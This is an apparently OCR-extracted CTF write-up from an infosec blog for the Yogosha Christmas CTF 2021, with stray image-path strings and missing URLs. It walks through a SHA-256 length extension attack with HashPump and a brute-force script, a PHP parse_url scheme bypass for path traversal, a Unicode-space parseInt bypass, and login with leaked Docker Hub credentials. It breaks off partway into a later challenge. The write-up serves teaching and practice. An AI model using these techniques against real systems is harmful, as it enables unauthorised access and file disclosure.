xanhacks - infosec blog

Yogosha Christmas CTF Writeup

·16 mins

CTFd Profile

Writeup of all challenges of the Yogosha Christmas CTF 2021. I finished 16th out of about 400 registered players.

There was a total of 5 challenges in different categories like web (mostly), osint, crypto and privilege escalation.

1. Welcome Christmas (169 solves) #


Description : Konoha village in Naruto is also enjoying Christmas but I heard there is a possible coup d’etat from a clan there :/ ShisuiYogo is a hero trying to save his village and clan. He shared something interesting that can lead you \o/

Hint : I heard that ShisuiYogo is a Body Flicker user ? Does this have a meaning ?

Hint 2 : Each Picture has some interesting Information stored in it; https://about.facebook.com/meta/

Body flicker is a high-speed movement technique in Naruto (hint 1). For this challenge, we can think about the flickr social network.

After some research, I found the flickr profile of ShisuiYogo. He had only one image on his profile. Let’s look at the meta data of this picture :

Envelope Record Version - 4
Coded Character Set - UTF8
Application Record Version - 4
Object Name - Yogosha{Shisui_H4s_G00d_ViSion}
Caption- Abstract - I heard something important is stored in /secret.txt here: ;
Maybe the akatsuki will help the Uchiha clan ?
Flag : Yogosha{Shisui_H4s_G00d_ViSion}

2. Uchiha Or Evil ? (53 solves) #

WEB & Crypto

Description : You found some important stuffs! The hockage is proud of you o// Let’s dive in the real stuff now can you really hack the uchiha ?

Hint : Is using hashes that way always secure ? Shisui is not sure about that since the old state of a hash is saved

Hint 2 : Is strpos really strict and always safe ?Hint 3 : First Part: Read About Hash length Extension Attacks :D Nothing more straight than this!

I now have the following URL, and my goal is to read /secret.txt.

The home page is a just static HTML file, let’s check out the content of robots.txt :

User-agent: Uchiha
Allow: /read.php

Let’s move to the read.php page.

$ curl
Access Denied. Only Uchiha clan can access this

$ curl -A "Uchiha" # Changing User-Agent
<!DOCTYPE html>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<link rel="stylesheet" href="https://www.w3schools.com/w3css/4/w3.css">
<link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Raleway">

The read.php contains a form with a single entry pre-filled with 184b5d255817fc0afe9316e67c8f386506a3b28b470c94f47583b76c7c0ec1e5|read.php.

This allows us to read the content of read.php :

include "secret.php";
    $arr=explode("|",$_POST['string']) ;
    if($hash===hash("sha256", $SECRET.$filenames ) && preg_match("/\//",$filenames)===0 ){
        foreach(explode(":",$filenames) as $filename){
            if(in_array($filename,["read.php","index.php","guinjutsu.php"])) {
                echo "Sharingan: ".$jutsu;
        echo "Verification Failed! You didn't awaken your sharingan!";


We have sha256($SECRET + 'read.php') = 184b5d255817fc0afe9316e67c8f386506a3b28b470c94f47583b76c7c0ec1e5. Firstly, I tried to find thesecret variable using a bruteforce attack but it did not work.

Then,after some research, I found an attack named length extension attack. This attack requires some pre-requisites such as:

  • A valid hash (In our case : 184b5d255817fc0afe9316e67c8f386506a3b28b470c94f47583b76c7c0ec1e5)
  • Control the end of the cleartext to be encrypted (In our case : The $filenames variable)
  • The hash algorithms is based on Merkle–Damgård construction. (In our case : sha256 is working)
  • Length of the $SECRET variable (We do not know it yet)

I use the tool HashPump to generate a new valid hash with a different value for the $filenames variable without knowing the $SECRET.

$ hashpump -h
HashPump [-h help] [-t test] [-s signature] [-d data] [-a additional] [-k keylength]HashPump generates strings to exploit signatures vulnerable to the Hash Length Extension Attack.
     -h --help          Display this message.
     -t --test          Run tests to verify each algorithm is operating properly.
     -s --signature     The signature from known message.
     -d --data          The data from the known message.
     -a --additional    The information you would like to add to the known message.
     -k --keylength     The length in bytes of the key being used to sign the original message with.
     Version 1.2.0 with CRC32, MD5, SHA1, SHA256 and SHA512 support.
     <Developed by bwall(@botnet_hunter)>

Unfortunately, we cannot directly read the /secret.txt file because of this line :

if(in_array($filename,["read.php","index.php","guinjutsu.php"])) {

Example usage of Hashpump :

$ hashpump
# Data from the placeholder
Input Signature: 184b5d255817fc0afe9316e67c8f386506a3b28b470c94f47583b76c7c0ec1e5 # hash
Input Data: read.php # file
Input Key Length: 41 # Length of $SECRET (we do not know it yet, so I use bruteforce to find it)
Input Data to Add: :guinjutsu.php # File we want to read.
fc979b4620daf4a9db3f5fdddfb3300469162e41daa0d60c976c336701bf7117# New 'hash' to send
read.php\x80\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\x88:guinjutsu.php # New 'filenames' to send

To bruteforce the lenght of the $SECRET variable, I use the following python script (a bit ugly but it works well) :

#!/usr/bin/env python3
fromsubprocess import run

URL = ""
HASH = "184b5d255817fc0afe9316e67c8f386506a3b28b470c94f47583b76c7c0ec1e5"

for i in range(1, 128):
    print("Testing with", i)

    command = f"/opt/web/HashPump/hashpump -s '{HASH}' -d 'read.php' -k {i} -a ':guinjutsu.php'"
    hashpump = run(command, shell=True, capture_output=True).stdout.decode()
    valid_hash, payload = hashpump[:64], hashpump[65:-1]

    command = f"node -p 'encodeURIComponent(\"{payload}\")'"
    payload_urlenc = run(command, shell=True, capture_output=True).stdout.decode().replace("%C2","").strip()

    command = f"curl -A 'Uchiha' -X POST -d 'string={valid_hash}|{payload_urlenc}' {URL} -o curl.out"
    curl_out = run(command, shell=True, capture_output=True).stdout.decode()

    with open("curl.out", "rb") as out:
        if b"Verification Failed!" not in out.read():
            print("Good !")

Thanks to Hashpump, we have the content of guinjutsu.php :

// This endpoint is deprecated due to some problems, I heard that other clans have stolen some jutsus
function check($url){
    if ((
        (strpos($par['scheme'],'http') !==false) and ($par['host']=='uchiha.fuinjutsukeeper.tech'))
        and ($par['port']==5000)
        return True;

        return False;

if (isset($_POST['submit'])){
    if((isset($_POST['api']))and(isset($_POST['endpoint']))){
        if (check($url)){
            $opts = array(
                'header'=>"Accept-language: en\r\n"
            $context = stream_context_create($opts);
            $file = file_get_contents($url, false, $context);
            echo $file;

After a bit of pain, I find a working payload that allows me to bypass the check function and read a file on the system.

$ php -a
php > var_dump(parse_url("http+file://uchiha.fuinjutsukeeper.tech:5000/../../../../../secret.txt"));
array(4) {
  string(9) "http+file" # 'http' is in the scheme part
  string(27) "uchiha.fuinjutsukeeper.tech"
  string(26) "/../../../../../secret.txt"
$ curl -d \

<br />
<b>Warning</b>:  file_get_contents():Unable to find the wrapper "http+file"
- did you forget to enable it when you configured PHP? in <b>/var/www/html/guinjutsu.php</b> on line <b>26</b><br />

Someone calling himself madara said to Itachi to kill everyone,
I'm not sure about this intel but if it's right no one can beat Itachi except Shisui.
Check this forum they are using

3. Js and Uchiha Are Evils (26 solves) #Description : Wow you are really about to save the village! Continue further and you will surely win :D

Hint : I heard that there is totally 10000 articles,this number will really help if you focus closely on the used functions :D /jutsu/1 is handy if you haven’t seen it \o/

Hint 2 : This check is done at the first line: if (/^[\b\t\n\v\f\r \xa0]*-/.test(req.params.id)) { Is checking negative jutsus is safely done ?

Hint 3 : I like injections and blind extractions :D 1337 is a nice number though, ypu may need it at lastLet’s check the forum at You will find articles at<id>. Let’s enumerate a bit :

$ for i in {0..10}; do curl "$i"; done
<h2> Jutsu is: </h2><br>
I heard that there is something interesting in jutsu number 1337, it's the most secret one!!
<h2> Jutsu is: </h2><br>
I'm using the following to avoid access to jutsus higher than 9; is it safe? :
let id = parseInt(request.params.id, 10);
  // baka saijin can't read the jutsuswith id >9
        if (id > 9) {
                return res.render("jutsu",{jutsu:"Access Denied sorry"})
        const jutsu = articles.at(id) ?? {
                jutsu: 'Not found'
        return res.render("jutsu",jutsu);
Lorem ipsum
Lorem ipsum

Thanks to the hints and the second article, we can guess a function like this in the backend :

    if (/^[\b\t\n\v\f\r \xa0]*-/.test(req.params.id)) {return res.render("jutsu",{"jutsu":"Hacking Attempted"});
    let id = parseInt(req.params.id, 10);

    if (id > 9) {
        return res.render("jutsu",{jutsu:"Access Denied sorry"})
    const jutsu = articles.at(id) ?? {
            jutsu: 'Not found'
    return res.render("jutsu",jutsu);

Our goal is to read the article n°1337. As they are 10 000 articles and we cannot have an id > 9, our new goal is to read the article n°-8663 (10000-1337).

To bypass the regex, we can use a non-ascii character which correspond to a space at the start of the string (because spacesare handled by parseInt and do not trigger the regex).

$ node
Welcome to Node.js v17.2.0.
Type ".help" for more information.
> /^[\b\t\n\v\f\r \xa0]*-/.test(decodeURI('-8663'))

> /^[\b\t\n\v\f\r \xa0]*-/.test(decodeURI('%e3%80%80-8663'))

> parseInt(decodeURI('%e3%80%80-8663'), 10);
$ curl ''
<h2> Jutsu is: </h2><br>
Wow,Awesome Jutsu! It's called Dockeru.
I stored the jutsu code there: id=shisuiyogo pass=YogoShisuiIsStrong image=forum

Dockeru makes me think about Docker. Our new goal is to find a docker image named forum.

It seems like shisuiyogo have an account on DockerHub. Let’s try to login with shisuiyogo:YogoShisuiIsStrong. Shisuiyogo had a private docker image named forum ! Let’s pull it on my machine.

$ sudo docker login
Login with your Docker ID to push and pull images from Docker Hub. If you don\'t have a Docker ID, head over to https://hub.docker.com to create one.
Username: shisuiyogo
Password: YogoShisuiIsStrong
$ sudo docker pull shisuiyogo/forum:latest
latest: Pulling from shisuiyogo/forum
$ sudo docker run -it --rm shisuiyogo/forum:latest bash
root@fb8b34fb8c53:/data# ls -al
total 108
drwxr-xr-x   1 root root  4096 Dec 25 18:37 .
drwxr-xr-x   1 root root  4096 Jan  3 08:56 ..
-rw-r--r--   1 root root  4956 Dec 25 18:36 index.js
drwxr-xr-x 110 root root  4096 Dec 25 18:37 node_modules
-rw-r--r--   1 root root 76609 Dec 25 18:37 package-lock.json
-rw-r--r--   1 root root   353 Dec 25 16:41 package.json
drwxr-xr-x   6 root root  4096 Dec 25 18:37 staticdrwxr-xr-x   2 root root  4096 Dec 25 18:37 views

Thanks to the docker image, we now have the code source of the website.

The function to log in is a bit tricky. It checks if the response of the request is an HTTP 200.

    var username=req.body.username;
        if (resp.statusCode==200){
            return res.redirect(302,"/home");
